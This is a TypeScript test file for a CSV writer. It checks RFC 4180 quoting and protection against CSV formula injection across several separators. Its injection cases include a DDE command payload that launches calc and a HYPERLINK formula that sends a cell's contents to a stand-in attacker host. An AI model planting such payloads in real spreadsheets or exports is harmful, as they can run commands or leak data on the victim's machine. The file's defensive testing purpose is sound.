import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvLine } from "./csv.ts";

/** Reads a CSV line as a spreadsheet does, with its separator. */
function cellsOf(line: string, separator: string): string[] {
  const cells: string[] = [];
  let rest = line.replace(/\r\n$/, "");
  for (;;) {
    const quoted = /^"((?:[^"]|"")*)"/.exec(rest);
    const head = quoted ? (quoted[1] ?? "").replaceAll('""', '"') : "";
    const after = quoted ? rest.slice(quoted[0].length) : rest;
    const end = after.indexOf(separator);
    cells.push(head + (end < 0 ? after : after.slice(0, end)));
    if (end < 0) return cells;
    rest = after.slice(end + 1);
  }
}

/** What a spreadsheet may calculate, once it has trimmed what it trims. */
const RUNS = /^[\s"`\u200b-\u200f\u2060\ufeff]*[=+\-@＝＋－＠−]/u;

describe("a line of CSV", () => {
  it.each<[readonly (string | number | null)[], string]>([
    [["a", "b"], "a,b\r\n"],
    [[1, null, ""], "1,,\r\n"],
    [[-5], "-5\r\n"],
    [["a,b", 'say "x"', "two\r\nlines"], '"a,b","say ""x""","two\r\nlines"\r\n'],
    [["it's"], `"it's"\r\n`],
    [["a-b=c@d+e"], "a-b=c@d+e\r\n"],
    [['{"a":-1,"b":"=x"}'], '"{""a"":-1,""b"":""=x""}"\r\n'],
  ])("quotes %j as RFC 4180 has it", (cells, line) => expect(csvLine(cells)).toBe(line));
});

describe("CSV injection", () => {
  it.each([
    "=1+1",
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    '"=1',
    "'=1",
    " \" '=1",
    "\ufeff=1",
    "\u200b=1",
    "＝1",
    "＋1",
    "－1",
    "＠1",
    "−1",
    "\tx",
    "\rx",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
  ])("makes text of %j", (attack) => {
    const [cell = ""] = cellsOf(csvLine([attack]), ",");
    expect(cell).toMatch(/^'/);
    expect(cell.replaceAll("'", "")).toBe(attack.replaceAll("'", ""));
  });

  it.each([";", "\t"])("leaves no cell to run where the file is read with %j between cells", (separator) => {
    const line = csvLine(["x", `a${separator}=1+1`, `b${separator} "@x`, `\t${separator}=1`]);
    expect(cellsOf(line, separator).filter((cell) => RUNS.test(cell))).toEqual([]);
  });

  it("never lets a cell begin with what is calculated, and keeps every character", () => {
    const unit = fc.oneof(
      fc.constantFrom(..."=+-@＝＋－＠−\t\r\n \"';,a\ufeff\u200b"),
      fc.string({ unit: "grapheme", maxLength: 1 }),
    );
    const texts = fc.array(fc.string({ unit, maxLength: 8 }), { minLength: 1, maxLength: 4 });
    fc.assert(
      fc.property(texts, (cells) => {
        const read = cellsOf(csvLine(cells), ",");
        expect(read).toHaveLength(cells.length);
        for (const [at, cell] of read.entries()) {
          expect(cell).not.toMatch(RUNS);
          expect(cell.replaceAll("'", "")).toBe(cells[at]?.replaceAll("'", ""));
        }
        for (const separator of [";", "\t"]) {
          expect(cellsOf(csvLine(cells), separator).filter((cell) => RUNS.test(cell))).toEqual([]);
        }
      }),
      { numRuns: 2_000 },
    );
  });
});
